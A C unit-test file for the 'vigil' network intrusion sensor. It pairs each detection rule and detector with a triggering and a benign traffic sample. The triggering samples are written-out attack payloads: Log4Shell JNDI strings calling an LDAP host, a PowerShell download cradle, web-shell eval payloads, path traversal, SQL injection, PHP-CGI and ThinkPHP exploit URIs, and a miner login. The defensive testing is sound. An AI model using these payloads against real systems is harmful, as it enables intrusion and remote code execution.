/*
 * test_defrules.c: the traffic rules vigil ships (rules/traffic/, loaded
 * from the source tree) and the detectors, through a whole netsensor:
 * frames built by netplay.h go in, EVE alerts come out.
 *
 * Each shipped rule has a row in rule_cases: a sample on which exactly
 * that rule alerts (one alert, nothing else from any rule, list or
 * detector), and a benign sample of the same shape (a normal request,
 * a normal name, SMB inside the office) on which nothing alerts. Each
 * detector has a row in det_cases the same way. A rule without a row, a
 * row without a rule, a rule the loader skips or a sid outside vigil's
 * range fails test_every_rule_has_a_case: adding a rule means adding a
 * row.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sodium.h>

#include "netplay.h"
#include "netsensor.h"
#include "version.h"

#define SID_MIN		9100000
#define SID_MAX		9199999
#define MAX_ALERTS	16

/* Who is who: the office is 192.168.1.0/24 (in the default HOME_NET);
 * the internet is documentation space (RFC 5737). */
#define PC		"192.168.1.30"	/* a staff PC */
#define PC2		"192.168.1.31"
#define NAS		"192.168.1.5"	/* a file server */
#define WEB		"192.168.1.80"	/* the office's web server */
#define CAM		"192.168.1.50"	/* a camera recorder */
#define GW		"192.168.1.1"	/* the router, gateway, resolver */
#define ATT		"198.51.100.20"	/* someone on the internet */
#define OUT		"203.0.113.66"	/* a server on the internet */

static const uint8_t	gw_mac[6] = { 0x02, 0, 0, 0, 0, 0xfe };

/* ---- samples ---- */

#define TCPS(c, s, p, u, d) { .shape = NP_TCP, .cli = (c), .srv = (s), \
	.port = (p), .up = NP_B(u), .down = NP_B(d) }
#define HTTP(c, s, ...) { .shape = NP_HTTP, .cli = (c), .srv = (s), \
	.port = 80, .http = { __VA_ARGS__ } }
#define DNSQ(n) { .shape = NP_DNS, .cli = PC, .srv = GW, .port = 53, \
	.name = (n) }

/* SMB over TCP: the NetBIOS session header (4 bytes), then the SMB
 * header; only as much as the rules and parsers look at. */
#define SMB2_NEGOTIATE	"\x00\x00\x00\x44\xfeSMB\x40\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\x00\x00"
#define SMB1_NEGOTIATE	"\x00\x00\x00\x2f\xffSMB\x72\x00\x00\x00\x00" \
			"\x18\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00" \
			"\x00\x0c\x00\x02NT LM 0.12\x00"
#define SMB1_ACCEPT	"\x00\x00\x00\x55\xffSMB\x72\x00\x00\x00\x00" \
			"\x98\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00" \
			"\x11\x00\x00"
#define SMB2_ACCEPT	"\x00\x00\x00\x80\xfeSMB\x40\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00"
/* TPKT, X.224 Connection Request with mstshash cookie, RDP_NEG_REQ */
#define RDP_CR		"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00" \
			"Cookie: mstshash=admin\r\n" \
			"\x01\x00\x08\x00\x03\x00\x00\x00"
#define TELNET_PROMPT	"\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01\r\n" \
			"DVR login: "
#define JNDI		"${jndi:ldap://198.51.100.9:1389/Basic/Command/a}"
#define CRADLE		"IEX (New-Object Net.WebClient).DownloadString(" \
			"'http://cdn.example.org/stage2.ps1')"
#define XMRIG_LOGIN	"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\"," \
			"\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ" \
			"9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ" \
			"4fhdUyZijBGUicoD\",\"pass\":\"x\",\"agent\":\"XMRig/" \
			"6.21.0 (Windows NT 10.0; Win64; x64) libuv/1.44.2 " \
			"msvc/2019\",\"algo\":[\"rx/0\"]}}\n"

struct rule_case {
	uint32_t		 sid;
	struct np_sample	 hit, quiet;
};

static const struct rule_case rule_cases[] = {
	/* vigil-exposure.rules */
	{ 9100001, TCPS(ATT, NAS, 445, SMB2_NEGOTIATE, ""),
	    TCPS(PC, NAS, 445, SMB2_NEGOTIATE, "") },
	{ 9100002, TCPS(PC, OUT, 445, SMB2_NEGOTIATE, ""),
	    TCPS(PC, NAS, 445, SMB2_NEGOTIATE, "") },
	{ 9100003, TCPS(PC, NAS, 445, SMB1_NEGOTIATE, SMB1_ACCEPT),
	    TCPS(PC, NAS, 445, SMB1_NEGOTIATE, SMB2_ACCEPT) },
	{ 9100004, TCPS(ATT, PC, 3389, RDP_CR, ""),
	    TCPS(PC2, PC, 3389, RDP_CR, "") },
	{ 9100005, TCPS(ATT, CAM, 23, "", TELNET_PROMPT),
	    TCPS(PC, CAM, 23, "", TELNET_PROMPT) },
	{ 9100006, TCPS(PC, OUT, 23, "", TELNET_PROMPT),
	    TCPS(PC, CAM, 23, "", TELNET_PROMPT) },
	{ 9100007, TCPS(PC, OUT, 21, "PASS Thang12@2024\r\n", ""),
	    TCPS(PC, NAS, 21, "PASS Thang12@2024\r\n", "") },

	/* vigil-web.rules */
	{ 9100101, HTTP(ATT, WEB, .uri = "/uploads/x.php?cmd=whoami"),
	    HTTP(ATT, WEB, .uri = "/index.php?subcmd=list&page=2") },
	{ 9100102, HTTP(ATT, WEB, .uri = "/index.php?x=eval%28base64_decode"
	    "%28%27ZWNobyAxOw%3D%3D%27%29%29%3B"),
	    HTTP(ATT, WEB, .uri = "/docs/php-base64_decode-example.html") },
	{ 9100103, HTTP(ATT, WEB, .method = "POST",
	    .uri = "/wp-content/themes/twentyten/404.php",
	    .hdrs = "Content-Type: application/x-www-form-urlencoded\r\n",
	    .body = "z=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAx"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/comment.php",
	    .hdrs = "Content-Type: application/x-www-form-urlencoded\r\n",
	    .body = "text=how+to+use+base64_decode+in+php") },
	{ 9100104, HTTP(ATT, WEB, .uri = "/wp-content/uploads/2024/05/ab.php"),
	    HTTP(ATT, WEB, .uri = "/wp-content/uploads/2024/05/photo.jpg") },
	{ 9100105, HTTP(ATT, WEB, .uri = "/images/wso.php"),
	    HTTP(ATT, WEB, .uri = "/images/wsorder.php") },
	{ 9100106, HTTP(ATT, WEB,
	    .uri = "/download.php?file=../../../../windows/win.ini"),
	    HTTP(ATT, WEB, .uri = "/docs/../index.html") },
	{ 9100107, HTTP(ATT, WEB,
	    .uri = "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh"),
	    HTTP(ATT, WEB, .uri = "/files/report%20v2.pdf") },
	{ 9100108, HTTP(ATT, WEB, .uri = "/index.php?page=/etc/passwd"),
	    HTTP(ATT, WEB, .uri = "/index.php?page=/etc/about") },
	{ 9100109, HTTP(ATT, WEB, .uri = "/news.php?id=1+UNION+ALL+SELECT+"
	    "1,2,concat(user(),0x3a,database())--+-"),
	    HTTP(ATT, WEB, .uri = "/search.php?q=union+members+select+a+plan") },
	{ 9100110, HTTP(ATT, WEB,
	    .uri = "/login.php?user=admin%27%20OR%201=1--&pass=x"),
	    HTTP(ATT, WEB, .uri = "/search.php?q=rock'n'roll+or+1+more") },
	{ 9100111, HTTP(ATT, WEB, .uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F"
	    "198.51.100.9%3A1389%2Fa%7D"),
	    HTTP(ATT, WEB, .uri = "/?x=%24%7Bprice%7D") },
	{ 9100112, HTTP(ATT, WEB, .uri = "/", .hdrs = "X-Api-Version: "
	    JNDI "\r\n"),
	    HTTP(ATT, WEB, .uri = "/", .hdrs = "X-Api-Version: ${ver}\r\n") },
	{ 9100113, HTTP(ATT, WEB, .uri = "/", .hdrs = "Cookie: session="
	    JNDI "\r\n"),
	    HTTP(ATT, WEB, .uri = "/", .hdrs = "Cookie: session=4f2a\r\n") },
	{ 9100114, HTTP(ATT, WEB, .method = "POST", .uri = "/api/login",
	    .hdrs = "Content-Type: application/json\r\n",
	    .body = "{\"user\":\"" JNDI "\",\"pass\":\"x\"}"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/api/login",
	    .hdrs = "Content-Type: application/json\r\n",
	    .body = "{\"user\":\"lan\",\"pass\":\"x\"}") },
	{ 9100115, HTTP(ATT, WEB, .method = "POST",
	    .uri = "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+"
	    "auto_prepend_file%3Dphp://input", .body = "<?php echo 1; ?>"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/php-cgi/info.php?d=1",
	    .body = "a=1") },
	{ 9100116, HTTP(ATT, WEB, .uri = "/index.php?s=/Index/\\think\\app/"
	    "invokefunction&function=call_user_func_array&vars[0]=md5&"
	    "vars[1][]=HelloThinkPHP"),
	    HTTP(ATT, WEB, .uri = "/index.php?s=/index/news/list&page=2") },

	/* vigil-tools.rules */
	{ 9100201, HTTP(ATT, WEB, .uri = "/news.php?id=1",
	    .ua = "sqlmap/1.7.2#stable (https://sqlmap.org)"),
	    HTTP(ATT, WEB, .uri = "/news.php?id=1") },
	{ 9100202, HTTP(ATT, WEB, .uri = "/",
	    .ua = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
	    HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (Nikon D750)") },
	{ 9100203, HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (compatible; "
	    "Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
	    HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (compatible; "
	    "Googlebot/2.1; +http://www.google.com/bot.html)") },
	{ 9100204, HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 zgrab/0.x"),
	    HTTP(PC, OUT, .uri = "/", .ua = "Mozilla/5.0 zgrab/0.x") },
	{ 9100205, HTTP(PC, OUT, .uri = "/files/invoice.exe"),
	    HTTP(PC, OUT, .uri = "/files/setup.exe",
	    .host = "download.example.com") },
	{ 9100206, HTTP(PC, OUT, .uri = "/bins/x.arm7", .ua = "Wget/1.21.3"),
	    HTTP(PC, OUT, .uri = "/debian/dists/bookworm/Release",
	    .host = "deb.debian.org", .ua = "Wget/1.21.3") },
	{ 9100207, HTTP(PC, OUT, .uri = "/update.txt", .host = "example.com",
	    .ua = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) "
	    "WindowsPowerShell/5.1.19041.4648"),
	    HTTP(PC, OUT, .uri = "/update.txt", .host = "example.com") },
	{ 9100208, HTTP(PC, OUT, .uri = "/a/payload.exe",
	    .host = "files.example.net", .ua = "Microsoft-CryptoAPI/10.0"),
	    HTTP(PC, OUT, .uri = "/pki/crl/ca.crl", .host = "files.example.net",
	    .ua = "Microsoft-CryptoAPI/10.0") },
	{ 9100209, HTTP(PC, OUT, .uri = "/news", .host = "cdn.example.org",
	    .resp = CRADLE),
	    HTTP(PC, OUT, .uri = "/news", .host = "cdn.example.org",
	    .resp = "$wc = New-Object Net.WebClient; $wc.Proxy = $null") },

	/* vigil-services.rules */
	{ 9100301, DNSQ("myrat2024.duckdns.org"), DNSQ("notduckdns.org") },
	{ 9100302, DNSQ("c2.ddns.net"), DNSQ("myddns.net") },
	{ 9100303, DNSQ("3b7e-113-160-1-2.ngrok-free.app"), DNSQ("ngrok.com") },
	{ 9100304, DNSQ("quick-brown-fox-jumps.trycloudflare.com"),
	    DNSQ("www.cloudflare.com") },
	{ 9100305, DNSQ("lockbitapt2d73krlbewgv27tquljgxr33xbwwsp6rkyieto7u4nc"
	    "id.onion"), DNSQ("www.onion.com.vn") },
	{ 9100306, HTTP(PC, OUT, .uri = "/raw/LnW0dq4V", .host = "pastebin.com"),
	    HTTP(PC, OUT, .uri = "/LnW0dq4V", .host = "pastebin.com") },

	/* vigil-mining.rules */
	{ 9100401, TCPS(PC, OUT, 3333, "{\"id\":1,\"method\":\"mining.subscribe"
	    "\",\"params\":[\"cpuminer/2.5.1\"]}\n", ""),
	    TCPS(PC, OUT, 3333, "{\"id\":1,\"method\":\"status\",\"params\":"
	    "[\"mining.example\"]}\n", "") },
	{ 9100402, TCPS(PC, OUT, 14444, XMRIG_LOGIN, ""),
	    TCPS(PC, OUT, 14444, "{\"id\":1,\"method\":\"auth\",\"params\":"
	    "{\"login\":\"lan\",\"agent\":\"app/1.0\"}}\n", "") },
};

/* ---- the sensor ---- */

struct got {
	uint32_t	 gid, sid;
	json_t		*eve;
};

struct run {
	struct netsensor	*ns;
	struct netplay		*play;
	struct got		 a[MAX_ALERTS];
	size_t			 n;
	int64_t			 last;
};

static struct netsensor_rules	*rules;
static uint32_t			 rules_loaded, rules_skipped;

static void
on_alert(void *ctx, const json_t *eve, const struct pkt *p,
    const struct net_alert *a)
{
	struct run	*r = ctx;

	if (r->n == MAX_ALERTS)
		fail_msg("more than %d alerts", MAX_ALERTS);
	r->a[r->n].gid = a->gid;
	r->a[r->n].sid = a->sid;
	r->a[r->n].eve = json_deep_copy(eve);
	r->n++;
}

static void
sink(void *ctx, int linktype, int64_t ts_us, const uint8_t *frame,
    size_t len)
{
	struct run	*r = ctx;

	netsensor_feed(r->ns, linktype, ts_us, frame, (uint32_t)len,
	    (uint32_t)len);
	r->last = ts_us;
}

static void
run_start(struct run *r)
{
	struct netsensor_conf	c;

	memset(r, 0, sizeof(*r));
	netsensor_conf_defaults(&c);
	c.gateway_set = 1;
	memcpy(c.gateway_ip, "\xc0\xa8\x01\x01", 4);
	memcpy(c.gateway_mac, gw_mac, 6);
	c.gateway_mac_set = 1;
	assert_int_equal(netsensor_new(&r->ns, &c, rules, on_alert, r), 0);
	r->play = netplay_new(LT_EN10MB, sink, r);
}

/* The capture ends: probes nobody answered time out. */
static void
run_end(struct run *r)
{
	netsensor_tick(r->ns, r->last + 10 * 1000000LL);
}

static void
run_free(struct run *r)
{
	size_t	i;

	for (i = 0; i < r->n; i++)
		json_decref(r->a[i].eve);
	netsensor_free(r->ns);
	netplay_free(r->play);
}

static void
print_alerts(const struct run *r, const char *what)
{
	size_t	i;

	for (i = 0; i < r->n; i++)
		print_message("%s: alert %u:%u %s\n", what, r->a[i].gid,
		    r->a[i].sid, json_string_value(json_object_get(
		    json_object_get(r->a[i].eve, "alert"), "signature")));
}

/* Exactly one alert, gid:sid, else say what came instead. */
static void
expect_one(const struct run *r, uint32_t gid, uint32_t sid)
{
	if (r->n != 1 || r->a[0].gid != gid || r->a[0].sid != sid) {
		print_alerts(r, "got");
		fail_msg("%u:%u: want exactly that alert, got %zu alerts",
		    gid, sid, r->n);
	}
}

static void
expect_none(const struct run *r, uint32_t gid, uint32_t sid)
{
	if (r->n != 0) {
		print_alerts(r, "benign sample");
		fail_msg("%u:%u: its benign sample raised %zu alerts", gid, sid,
		    r->n);
	}
}

/* ---- rules ---- */

static int
group_setup(void **state)
{
	const char			*paths[] = { VIGIL_TRAFFIC_SOURCE };
	struct netsensor_load_opts	 o = { 0 };
	struct netsensor_load_stats	 st;

	if (sodium_init() < 0)
		return -1;
	o.rules = paths;
	o.nrules = 1;
	if (netsensor_load(&rules, &o, &st) != 0)
		return -1;
	rules_loaded = st.rules.loaded;
	rules_skipped = st.rules.skipped;
	return 0;
}

static int
group_teardown(void **state)
{
	netsensor_rules_free(rules);
	return 0;
}

/* The sids of the enabled rules in one rules file, appended to sids. */
static void
file_sids(const char *path, uint32_t *sids, size_t *n, size_t max)
{
	FILE		*f;
	char		 line[4096];
	const char	*s;
	char		*end;
	unsigned long	 v;

	assert_non_null(f = fopen(path, "r"));
	while (fgets(line, sizeof(line), f) != NULL) {
		assert_non_null(strchr(line, '\n'));	/* no long lines */
		if (strncmp(line, "alert ", 6) != 0) {
			/* comments and blank lines only: no other action,
			 * no continuation lines */
			assert_true(line[0] == '#' || line[0] == '\n');
			continue;
		}
		assert_non_null(s = strstr(line, "; sid:"));
		v = strtoul(s + 6, &end, 10);
		assert_int_equal(*end, ';');
		assert_true(*n < max);
		sids[(*n)++] = (uint32_t)v;
	}
	assert_int_equal(ferror(f), 0);
	fclose(f);
}

static int
cmp_u32(const void *a, const void *b)
{
	uint32_t	x = *(const uint32_t *)a, y = *(const uint32_t *)b;

	return x < y ? -1 : x > y;
}

/* rules/traffic holds exactly the rules of rule_cases, each in vigil's
 * sid range, all loaded. */
static void
test_every_rule_has_a_case(void **state)
{
	enum { N = sizeof(rule_cases) / sizeof(rule_cases[0]) };
	uint32_t	 sids[256], want[N];
	size_t		 n = 0, i;
	DIR		*d;
	struct dirent	*e;
	char		 path[PATH_MAX];
	size_t		 len;

	assert_non_null(d = opendir(VIGIL_TRAFFIC_SOURCE));
	while ((e = readdir(d)) != NULL) {
		len = strlen(e->d_name);
		if (len < 6 || strcmp(e->d_name + len - 6, ".rules") != 0)
			continue;
		assert_int_equal(strncmp(e->d_name, "vigil-", 6), 0);
		netplay_fmt(path, sizeof(path), "%s/%s", VIGIL_TRAFFIC_SOURCE,
		    e->d_name);
		file_sids(path, sids, &n, sizeof(sids) / sizeof(sids[0]));
	}
	closedir(d);
	for (i = 0; i < N; i++)
		want[i] = rule_cases[i].sid;
	qsort(sids, n, sizeof(sids[0]), cmp_u32);
	qsort(want, N, sizeof(want[0]), cmp_u32);
	for (i = 0; i < n; i++) {
		assert_in_range(sids[i], SID_MIN, SID_MAX);
		if (i > 0 && sids[i] == sids[i - 1])
			fail_msg("sid %u twice", sids[i]);
		if (i >= N || sids[i] != want[i])
			fail_msg("sid %u: no row in rule_cases (or a row "
			    "without a rule before it)", sids[i]);
	}
	assert_int_equal(n, N);
	assert_int_equal(rules_skipped, 0);
	assert_int_equal(rules_loaded, N);
}

/* What every vigil rule's alert carries in EVE. */
static void
check_eve(const json_t *eve, uint32_t sid)
{
	json_t		*al = json_object_get(eve, "alert");
	json_t		*meta = json_object_get(al, "metadata");
	const char	*sig = json_string_value(json_object_get(al,
			    "signature"));

	assert_non_null(al);
	assert_int_equal(json_integer_value(json_object_get(al,
	    "signature_id")), sid);
	assert_int_equal(json_integer_value(json_object_get(al, "gid")), 1);
	assert_int_equal(json_integer_value(json_object_get(al, "rev")), 1);
	assert_non_null(sig);
	assert_int_equal(strncmp(sig, "VIGIL ", 6), 0);
	assert_non_null(json_string_value(json_object_get(al, "category")));
	assert_in_range(json_integer_value(json_object_get(al, "severity")),
	    1, 3);
	assert_true(json_is_array(json_object_get(meta, "created_at")));
	assert_true(json_is_array(json_object_get(meta, "vigil_group")));
}

static void
test_rules_fire_on_their_samples(void **state)
{
	const struct rule_case	*c;
	struct run		 r;
	size_t			 i;

	for (i = 0; i < sizeof(rule_cases) / sizeof(rule_cases[0]); i++) {
		c = &rule_cases[i];
		run_start(&r);
		netplay_sample(r.play, &c->hit);
		run_end(&r);
		expect_one(&r, 1, c->sid);
		check_eve(r.a[0].eve, c->sid);
		run_free(&r);
	}
}

static void
test_rules_quiet_on_benign(void **state)
{
	const struct rule_case	*c;
	struct run		 r;
	size_t			 i;

	for (i = 0; i < sizeof(rule_cases) / sizeof(rule_cases[0]); i++) {
		c = &rule_cases[i];
		run_start(&r);
		netplay_sample(r.play, &c->quiet);
		run_end(&r);
		expect_none(&r, 1, c->sid);
		run_free(&r);
	}
}

/* Every benign sample in one capture, in one sensor: still nothing (no
 * rule, no detector counts them into an alert). */
static void
test_benign_together(void **state)
{
	struct run	r;
	size_t		i;

	run_start(&r);
	for (i = 0; i < sizeof(rule_cases) / sizeof(rule_cases[0]); i++)
		netplay_sample(r.play, &rule_cases[i].quiet);
	run_end(&r);
	expect_none(&r, 1, 0);
	run_free(&r);
}

/* A rule with a threshold alerts once for a sample seen twice; one
 * without alerts twice. */
static void
test_repeats(void **state)
{
	struct run	r;

	run_start(&r);
	netplay_sample(r.play, &rule_cases[0].hit);	/* limit 1 an hour */
	netplay_sample(r.play, &rule_cases[0].hit);
	run_end(&r);
	expect_one(&r, 1, rule_cases[0].sid);
	run_free(&r);
	run_start(&r);
	netplay_sample(r.play, &rule_cases[3].hit);	/* RDP: each one */
	netplay_sample(r.play, &rule_cases[3].hit);
	run_end(&r);
	assert_int_equal(r.n, 2);
	run_free(&r);
}

/* ---- detectors ---- */

typedef void play_fn(struct netplay *);

static void
scan_ports(struct netplay *p, unsigned nports)
{
	unsigned	i;

	for (i = 0; i < nports; i++)
		netplay_probe(p, PC2, NAS, (uint16_t)(1000 + i * 7), true);
}

static void
scan_ports_hit(struct netplay *p)
{
	scan_ports(p, 20);
}

/* A browser: many connections to many hosts, all answered. */
static void
browse(struct netplay *p)
{
	char		host[32];
	unsigned	i;

	for (i = 0; i < 40; i++) {
		netplay_fmt(host, sizeof(host), "203.0.113.%u", 10 + i);
		netplay_tcp(p, PC, host, i % 2 ? 443 : 80, NULL, 0, NULL, 0);
	}
}

/* A few closed ports (a printer driver probing): below the count. */
static void
scan_ports_quiet(struct netplay *p)
{
	scan_ports(p, 10);
	browse(p);
}

static void
scan_hosts(struct netplay *p, unsigned nhosts)
{
	char		host[32];
	unsigned	i;

	for (i = 0; i < nhosts; i++) {
		netplay_fmt(host, sizeof(host), "192.168.1.%u", 100 + i);
		netplay_probe(p, PC2, host, 445, false);
	}
}

static void
scan_hosts_hit(struct netplay *p)
{
	scan_hosts(p, 30);
}

static void
scan_hosts_quiet(struct netplay *p)
{
	scan_hosts(p, 12);
	browse(p);
}

static void
connect_n(struct netplay *p, uint16_t port, unsigned n)
{
	unsigned	i;

	for (i = 0; i < n; i++) {
		netplay_tcp(p, PC2, NAS, port, NULL, 0, NULL, 0);
		netplay_wait(p, 500000);
	}
}

static void brute_ssh_hit(struct netplay *p) { connect_n(p, 22, 12); }
static void brute_ssh_quiet(struct netplay *p) { connect_n(p, 22, 4); }
static void brute_rdp_hit(struct netplay *p) { connect_n(p, 3389, 12); }
static void brute_rdp_quiet(struct netplay *p) { connect_n(p, 3389, 3); }
static void brute_smb_hit(struct netplay *p) { connect_n(p, 445, 25); }
static void brute_smb_quiet(struct netplay *p) { connect_n(p, 445, 12); }
static void brute_ftp_hit(struct netplay *p) { connect_n(p, 21, 12); }
static void brute_ftp_quiet(struct netplay *p) { connect_n(p, 21, 5); }

/* Names under one parent: tunnelled data (long, random) or a web page's
 * usual hosts. */
static void
dns_names(struct netplay *p, unsigned n, bool tunnel, uint16_t qtype)
{
	static const char	b32[] = "abcdefghijklmnopqrstuvwxyz234567";
	char			name[128];
	uint32_t		x = 2463534242u;
	unsigned		i, j;

	for (i = 0; i < n; i++) {
		if (tunnel) {
			for (j = 0; j < 52; j++) {
				x ^= x << 13;
				x ^= x >> 17;
				x ^= x << 5;
				name[j] = b32[x % 32];
			}
			memcpy(name + 52, ".t.exfil-example.com", 21);
		} else
			netplay_fmt(name, sizeof(name),
			    "img%u.static.exfil-example.com", i);
		netplay_dns_type(p, PC, GW, name, qtype, true);
	}
}

static void dns_tunnel_hit(struct netplay *p) { dns_names(p, 25, true, 1); }
static void dns_tunnel_quiet(struct netplay *p) { dns_names(p, 40, false, 1); }
static void dns_txt_hit(struct netplay *p) { dns_names(p, 55, false, 16); }
static void dns_txt_quiet(struct netplay *p) { dns_names(p, 30, false, 16); }

static void
arp_spoof_hit(struct netplay *p)
{
	static const uint8_t	evil[6] = { 0x02, 0, 0, 0, 0, 0x66 };

	netplay_arp_reply(p, gw_mac, GW, PC);
	netplay_arp_reply(p, evil, GW, PC);
}

static void
arp_spoof_quiet(struct netplay *p)
{
	static const uint8_t	pc2[6] = { 0x02, 0, 0, 0, 0, 0x31 };

	netplay_arp_reply(p, gw_mac, GW, PC);
	netplay_arp_reply(p, pc2, PC2, PC);
	netplay_arp_reply(p, gw_mac, GW, PC2);
}

static const struct det_case {
	uint32_t	 sid;
	play_fn		*hit, *quiet;
} det_cases[] = {
	{ DET_SID_SCAN_PORTS, scan_ports_hit, scan_ports_quiet },
	{ DET_SID_SCAN_HOSTS, scan_hosts_hit, scan_hosts_quiet },
	{ DET_SID_BRUTE_SSH, brute_ssh_hit, brute_ssh_quiet },
	{ DET_SID_BRUTE_RDP, brute_rdp_hit, brute_rdp_quiet },
	{ DET_SID_BRUTE_SMB, brute_smb_hit, brute_smb_quiet },
	{ DET_SID_BRUTE_FTP, brute_ftp_hit, brute_ftp_quiet },
	{ DET_SID_DNS_TUNNEL, dns_tunnel_hit, dns_tunnel_quiet },
	{ DET_SID_DNS_TXT, dns_txt_hit, dns_txt_quiet },
	{ DET_SID_ARP_GATEWAY, arp_spoof_hit, arp_spoof_quiet },
};

static void
test_detectors(void **state)
{
	const struct det_case	*c;
	struct run		 r;
	size_t			 i;

	/* every detector has a row */
	assert_int_equal(sizeof(det_cases) / sizeof(det_cases[0]),
	    DET_SID_ARP_GATEWAY);
	for (i = 0; i < sizeof(det_cases) / sizeof(det_cases[0]); i++) {
		c = &det_cases[i];
		run_start(&r);
		c->hit(r.play);
		run_end(&r);
		expect_one(&r, DET_GID, c->sid);
		assert_non_null(json_object_get(r.a[0].eve, "evidence"));
		run_free(&r);
		run_start(&r);
		c->quiet(r.play);
		run_end(&r);
		expect_none(&r, DET_GID, c->sid);
		run_free(&r);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule_has_a_case),
		cmocka_unit_test(test_rules_fire_on_their_samples),
		cmocka_unit_test(test_rules_quiet_on_benign),
		cmocka_unit_test(test_benign_together),
		cmocka_unit_test(test_repeats),
		cmocka_unit_test(test_detectors),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
